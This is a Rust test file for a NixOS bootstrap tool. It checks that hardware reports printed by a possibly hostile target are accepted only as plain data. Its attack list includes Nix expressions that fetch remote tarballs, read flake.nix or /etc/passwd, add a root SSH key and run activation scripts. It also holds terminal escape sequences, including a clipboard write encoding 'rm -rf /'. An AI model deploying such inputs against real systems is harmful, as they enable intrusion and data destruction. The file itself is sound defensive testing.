//! What a target reports as its hardware is data, or a person is asked: what the real program
//! prints on many kinds of machine is read as Nix reads it, and a hostile target gets nothing
//! committed, evaluated or pushed.

use std::fs;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use crate::common::have;
use crate::common::installer::HARDWARE;
use crate::common::journey::{HOST, Journey, Ran, quoted, run};
use landfall::steps::hardware::generated::{MOST_BYTES, Module, parse};
use rexpect::session::{PtySession, spawn_command};
use serde_json::{Map, Value};

const PERSON: i32 = 3;
const DEADLINE_MS: u64 = 120_000;

/// Reports as nixos-generate-config prints them, by kind of machine.
fn reports() -> Vec<(PathBuf, String)> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/it/steps/hardware_reports");
    let mut files: Vec<PathBuf> =
        fs::read_dir(dir).unwrap().map(|entry| entry.unwrap().path()).collect();
    files.sort();
    let texts = files.iter().map(|file| fs::read_to_string(file).unwrap());
    let reports: Vec<_> = files.iter().cloned().zip(texts).collect();
    assert!(reports.len() >= 20, "{files:?}");
    reports
}

/// The settings as the attribute set that they make.
fn nested(module: &Module) -> Value {
    let mut root = Map::new();
    for setting in &module.settings {
        let (last, parents) = setting.path.split_last().unwrap();
        let mut set = &mut root;
        for part in parents {
            let below = set.entry(part.clone()).or_insert_with(|| Value::Object(Map::new()));
            set = below.as_object_mut().unwrap();
        }
        set.insert(last.clone(), setting.value.clone());
    }
    Value::Object(root)
}

#[test]
fn what_the_program_prints_is_accepted() {
    for (file, text) in reports() {
        let module = parse(&text).unwrap_or_else(|error| panic!("{}: {error:?}", file.display()));
        assert!(module.settings.len() >= 5, "{}", file.display());
    }
    let swap = fs::read_to_string(reports()[0].0.with_file_name("swap.nix")).unwrap();
    let swap = nested(&parse(&swap).unwrap());
    assert_eq!(swap["swapDevices"][1]["device"], "/dev/sda3");
    assert_eq!(swap["nixpkgs"]["hostPlatform"], "x86_64-linux");
    assert_eq!(swap["imports"][0], "modulesPath/installer/scan/not-detected.nix");
}

/// The module as real nix evaluates it, given arguments that name themselves.
const AS_NIX_READS_IT: &str = r#"
let
  clean = value:
    if builtins.isFunction value then [ "prl-tools" ]
    else if builtins.isAttrs value then builtins.mapAttrs (_: clean) value
    else if builtins.isList value then map clean value
    else value;
in file: clean (import file {
  lib = { mkDefault = value: value; };
  pkgs = { };
  modulesPath = "modulesPath";
  config.hardware.enableRedistributableFirmware = "config.hardware.enableRedistributableFirmware";
  config.boot.kernelPackages.broadcom_sta = "config.boot.kernelPackages.broadcom_sta";
})"#;

#[test]
fn what_is_accepted_means_to_nix_what_it_means_here() {
    if !have("nix-instantiate") {
        return;
    }
    let home = tempfile::tempdir().unwrap();
    for (file, text) in reports() {
        let mut nix = Command::new("nix-instantiate");
        nix.args(["--eval", "--strict", "--json", "-E"]).env("HOME", home.path());
        nix.arg(format!("({AS_NIX_READS_IT}) {}", file.display()));
        let ran = run(&mut nix);
        let read: Value = serde_json::from_str(&ran.succeeds().stdout).unwrap();
        assert_eq!(nested(&parse(&text).unwrap()), read, "{}", file.display());
    }
}

/// A module of the usual form with these lines in it.
fn with(lines: &str) -> String {
    HARDWARE.replacen("  nixpkgs", &format!("  {lines}\n  nixpkgs"), 1)
}

/// What a hostile target may print, `URL` being where it would send what it finds.
fn attacks() -> Vec<(&'static str, String)> {
    let fetch = "builtins.fetchTarball { url = \"URL\"; sha256 = \"0000000000000000000000000000000000000000000000000000\"; }";
    let inside = [
        ("readFile", "boot.kernelModules = [ (builtins.readFile ../../../flake.nix) ];"),
        ("path", "boot.initrd.luks.devices.\"x\".device = ../../../flake.nix;"),
        ("search path", "imports = [ <nixpkgs/nixos> ];"),
        ("import", "imports = [ (import (builtins.toFile \"x\" \"{ }\")) ];"),
        (
            "import from a derivation",
            "boot.kernelModules = import (derivation { name = \"x\"; system = \"x86_64-linux\"; \
             builder = \"/bin/sh\"; args = [ \"-c\" \"echo 1 >$out\" ]; });",
        ),
        ("a module outside", "imports = [ (modulesPath + \"/../../../etc/passwd\") ];"),
        ("a module of others", "imports = [ (modulesPath + \"/virtualisation/qemu-vm.nix\") ];"),
        ("root's key", "users.users.root.openssh.authorizedKeys.keys = [ \"ssh-ed25519 A\" ];"),
        ("activation", "system.activationScripts.x = \"touch /x\";"),
        ("interpolation", "swapDevices = [ { device = \"/dev/${builtins.readFile ./x}\"; } ];"),
        ("an escape", "swapDevices = [ { device = \"/dev/\\${x}\"; } ];"),
        ("a quote that is escaped", "swapDevices = [ { device = \"/dev/\\\"; } ]; x = \" ]; } ];"),
        ("a string of lines", "swapDevices = [ { device = ''/dev/x''; } ];"),
        ("interpolation in it", "boot.kernelModules = [ ''${builtins.readFile ./x}'' ];"),
        ("with", "boot.kernelModules = with lib; [ \"x\" ];"),
        ("let", "boot.kernelModules = let x = \"x\"; in [ x ];"),
        ("assert", "boot.kernelModules = assert true; [ \"x\" ];"),
        ("rec", "fileSystems.\"/\" = rec { device = \"/dev/x\"; fsType = \"ext4\"; };"),
        ("inherit", "inherit (builtins) currentSystem;"),
        ("a call", "boot.kernelModules = lib.mkForce [ \"x\" ];"),
        ("an update", "boot.kernelModules = [ ] ++ [ \"x\" ];"),
        ("a selection", "boot.extraModulePackages = [ config.boot.kernelPackages.a.src ];"),
        ("another package", "boot.extraModulePackages = [ pkgs.hello ];"),
        ("a dynamic name", "${\"boot\"}.kernelModules = [ ];"),
        ("a computed name", "fileSystems.${./x} = { device = \"/dev/x\"; fsType = \"ext4\"; };"),
        ("a list in a list", "boot.kernelModules = [ [ \"x\" ] ];"),
        ("a share", "fileSystems.\"/etc\" = { device = \"//a.example/x\"; fsType = \"cifs\"; };"),
        ("nfs", "fileSystems.\"/etc\" = { device = \"a.example:/x\"; fsType = \"nfs4\"; };"),
        (
            "options",
            "fileSystems.\"/etc\" = { device = \"/dev/x\"; fsType = \"ext4\"; options = [ \"x-mount.wrap\" ]; };",
        ),
        ("a url", "boot.kernelModules = x:y;"),
        ("a predicate of its own", "nixpkgs.config.allowUnfreePredicate = pkg: true;"),
        ("another unfree package", "nixpkgs.config.allowUnfreePackages = [ \"other\" ];"),
        ("a comment that a return ends", "# x\r users.mutableUsers = true;"),
        ("a long comment", "/* # */ users.mutableUsers = true; # */"),
        ("returns", "boot.kernelModules = [ ];\r"),
        ("a NUL", "boot.kernelModules = [ \"x\0y\" ];"),
        ("an escape sequence", "boot.kernelModules = [ ]; # \x1b[2K\x1b[1A"),
        ("text that turns", "boot.kernelModules = [ ]; # \u{202e}x"),
        ("a service of the terminal", "# \x1b]52;c;cm0gLXJmIC8K\x07"),
        ("the same again", "boot.initrd.availableKernelModules = [ \"x\" ];"),
        ("a semicolon", "boot.kernelModules = [ ]; ; ;"),
    ];
    let mut attacks: Vec<_> = inside.iter().map(|(name, lines)| (*name, with(lines))).collect();
    let whole = [
        ("fetch", with(&format!("imports = [ ({fetch}) ];"))),
        ("an argument's default", HARDWARE.replace("lib,", &format!("lib, x ? {fetch},"))),
        ("the arguments as one", HARDWARE.replace("... }:", "... }@all:")),
        ("other arguments", HARDWARE.replace("lib,", "lib, inputs,")),
        ("a let around it", HARDWARE.replacen('{', "let a = 1; in {", 1)),
        ("a call of it", format!("({HARDWARE}) {{ }}")),
        ("a call behind it", format!("{HARDWARE} {{ }}")),
        ("two modules", format!("{HARDWARE}\n{HARDWARE}")),
        ("no function", "{ boot.kernelModules = [ ]; }".to_owned()),
        ("a set of its own", HARDWARE.replacen("{\n", "rec {\n", 1)),
        ("no end", HARDWARE.trim_end_matches('}').to_owned()),
        ("another text", "warning: something is odd".to_owned()),
        ("nothing", String::new()),
        ("a deep nest", format!("{}{}", "[".repeat(20_000), "]".repeat(20_000))),
    ];
    attacks.extend(whole);
    attacks
}

#[test]
fn what_is_more_than_data_is_refused() {
    for (name, text) in attacks() {
        assert!(parse(&text).is_err(), "{name}: {text}");
        // Nor does it pass with the line ends of another system.
        assert!(parse(&text.replace('\n', "\r\n")).is_err(), "{name}");
    }
    parse(HARDWARE).unwrap();
    parse(&with("")).unwrap();
}

fn until_hardware(journey: &Journey) -> Ran {
    run(journey.landfall().args(journey.args("bootstrap")).args(["--until", "hardware"]))
}

/// Requires that an unattended run refuses what the target prints, and leaves everything as
/// it was.
#[track_caller]
fn refuses(journey: &Journey, name: &str, words: &[&str]) {
    let before = journey.seen();
    let started = Instant::now();
    let ran = until_hardware(journey);
    assert_eq!(ran.code, Some(PERSON), "{name}: {}", ran.text);
    ran.ends(PERSON, words);
    assert!(started.elapsed() < Duration::from_secs(90), "{name}: {:?}", started.elapsed());
    assert_eq!(journey.seen(), before, "{name} changed something");
    for control in ['\x1b', '\0', '\x07', '\u{202e}'] {
        assert!(!ran.text.contains(control), "{name}: {:?}", ran.text);
    }
}

#[test]
fn a_hostile_target_gets_nothing_committed_evaluated_or_pushed() {
    let Some(journey) = Journey::new() else { return };
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let url = format!("http://{}/x.tar.gz", listener.local_addr().unwrap());
    let tried = [
        "fetch",
        "readFile",
        "import from a derivation",
        "root's key",
        "interpolation",
        "a comment that a return ends",
        "a NUL",
        "a service of the terminal",
        "a let around it",
        "an argument's default",
        "a deep nest",
    ];
    for (name, text) in attacks().into_iter().filter(|(name, _)| tried.contains(name)) {
        journey.target.reports(&text.replace("URL", &url));
        refuses(&journey, name, &["nixos-generate-config on the target printed more", "--yes"]);
    }
    let endless = [
        ("much", format!("head -c {} /dev/zero | tr '\\0' a", 100 << 20)),
        ("a line more than there can be", format!("head -c {} /dev/zero", MOST_BYTES + 1)),
        ("no end", "exec yes '# a comment'".to_owned()),
    ];
    for (name, script) in endless {
        journey.target.script("bin/nixos-generate-config", &script);
        refuses(&journey, name, &["prints too much"]);
    }
    journey.target.script("bin/nixos-generate-config", r"printf '\377\376'");
    refuses(&journey, "no UTF-8", &["no text in UTF-8"]);
    assert!(listener.accept().is_err(), "something was fetched");
    assert!(!journey.state().join(HOST).join("current/keys/ssh_host_ed25519_key").exists());
}

#[test]
fn a_line_that_is_outside_is_shown_with_its_number() {
    let Some(journey) = Journey::new() else { return };
    journey
        .target
        .reports(&with("users.users.root.password = \"x\";\n  users.mutableUsers = true;"));
    let words = ["5    users.users.root.password", "6    users.mutableUsers", "does not set"];
    refuses(&journey, "two lines", &words);
    // What is data is told where nobody is asked.
    journey.target.reports(HARDWARE);
    let ran = until_hardware(&journey);
    ran.ends(0, &["boot.initrd.availableKernelModules: ahci virtio_pci virtio_blk"]);
}

#[test]
fn a_report_that_changes_after_the_question_is_looked_at_again() {
    let Some(journey) = Journey::new() else { return };
    journey.target.write("evil", &with("users.mutableUsers = true;"));
    journey.target.script(
        "bin/nixos-generate-config",
        "if [ -e \"$target/asked\" ]; then exec cat \"$target/evil\"; fi\n\
         : >\"$target/asked\"\nexec cat \"$target/hardware\"",
    );
    let before = journey.remote_main("nix-config");
    until_hardware(&journey).ends(PERSON, &["printed more than hardware", "users.mutableUsers"]);
    assert!(!journey.hardware_file().exists());
    assert_eq!(journey.remote_main("nix-config"), before);
    assert_eq!(journey.steps()["hardware"]["state"], "failed");
}

/// A run without --yes at a terminal, up to the hardware step.
fn at_a_terminal(journey: &Journey) -> PtySession {
    let mut args = journey.args("bootstrap");
    args.retain(|word| word != "--yes");
    let words: Vec<String> = args.iter().map(|word| quoted(word)).collect();
    let landfall = assert_cmd::cargo::cargo_bin!("landfall").display().to_string();
    let script = format!(
        "stty columns 120 rows 60; {landfall} -C {} {} --until hardware; echo \"code=$?\"",
        journey.config().display(),
        words.join(" ")
    );
    let mut shell = journey.command("sh");
    shell.env("TERM", "xterm-256color").args(["-c", &script]);
    spawn_command(shell, Some(DEADLINE_MS)).unwrap()
}

fn answer(terminal: &mut PtySession, question: &str, answer: &str) -> String {
    let shown = terminal.exp_string(question).unwrap();
    terminal.send_line(answer).unwrap();
    shown
}

#[test]
fn a_person_sees_the_file_and_may_take_it_over() {
    let Some(journey) = Journey::new() else { return };
    let line = "services.openssh.enable = true; # \x1b]0;unseen\x07";
    journey.target.reports(&with(line));
    let before = journey.seen();
    for said in ["n", ""] {
        let mut terminal = at_a_terminal(&journey);
        answer(&mut terminal, "Re-encrypt, commit and push these?", "y");
        let shown = answer(&mut terminal, "Take this over as", said);
        let parts = ["services.openssh.enable", "unseen", "\\u{1b}]0;", "let others log in"];
        for part in parts.into_iter().chain(["virtio_blk"]) {
            assert!(shown.contains(part), "no {part:?} in:\n{shown}");
        }
        let shown = terminal.exp_string("code=3").unwrap();
        assert!(shown.contains("--hardware keep"), "{shown}");
        assert_eq!(journey.seen(), before);
    }
    let mut terminal = at_a_terminal(&journey);
    answer(&mut terminal, "Re-encrypt, commit and push these?", "y");
    answer(&mut terminal, "Take this over as", "y");
    terminal.exp_string("code=0").unwrap();
    assert!(fs::read_to_string(journey.hardware_file()).unwrap().contains(line));
    // It is committed now: the next run has nothing to ask.
    until_hardware(&journey).succeeds();
}

#[test]
fn what_replaces_a_tracked_file_is_shown_as_a_difference() {
    let Some(journey) = Journey::new() else { return };
    let kept = HARDWARE.replace("virtio_blk", "nvme") + "\n";
    fs::write(journey.hardware_file(), kept).unwrap();
    journey.commit_config("The hardware");
    journey.git(&journey.config(), &["push", "-q"]);
    let evil = with("services.openssh.enable = true;");
    journey.target.reports(&evil);
    let taken_over = |journey: &Journey| {
        let mut command = journey.landfall();
        command.args(journey.args("bootstrap"));
        command.args(["--hardware", "generate-config", "--until", "hardware"]);
        run(&mut command)
    };
    taken_over(&journey).ends(PERSON, &["services.openssh.enable"]);
    // A file that is kept is only compared.
    let ran = until_hardware(&journey);
    ran.ends(0, &["the hardware file is kept", "+  services.openssh.enable", "virtio_blk"]);
    journey.target.reports(HARDWARE);
    taken_over(&journey).succeeds();
    assert_eq!(fs::read_to_string(journey.hardware_file()).unwrap().trim(), HARDWARE);
}
